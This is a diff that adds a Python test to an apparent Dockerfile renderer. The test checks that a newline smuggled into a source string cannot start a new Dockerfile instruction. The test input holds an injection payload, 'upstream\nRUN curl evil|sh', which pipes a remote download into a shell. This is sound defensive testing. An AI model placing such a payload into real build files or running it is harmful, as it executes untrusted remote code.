@@ -388,3 +388,14 @@ def test_build_through_the_engine(request: pytest.FixtureRequest, m: Matrix, tmp
     result = engine.run(image_id, ["cat", "/versions.txt"])
     assert result.stdout.strip() == "gfx=gfx942 rocm=6.3.1 max_jobs=1 aiter=916bf3c"
     assert any("RUN --mount=type=cache" in line for line in lines), lines
+
+
+def test_free_text_from_data_cannot_start_a_line(m: Matrix) -> None:
+    """A line break smuggled into a source string (say, through a refresh overlay) stays inside its
+    comment; the loader refuses it too (tests/test_matrix.py)."""
+    from dataclasses import replace
+
+    plan = replace(plan_for(m, "0.24.0", "gfx942", "30.30.3"), source="upstream\nRUN curl evil|sh\r\n# x")
+    text = df.render(plan)
+    assert not any(line.startswith("RUN curl") for line in text.splitlines())
+    assert "upstream RUN curl evil|sh" in text
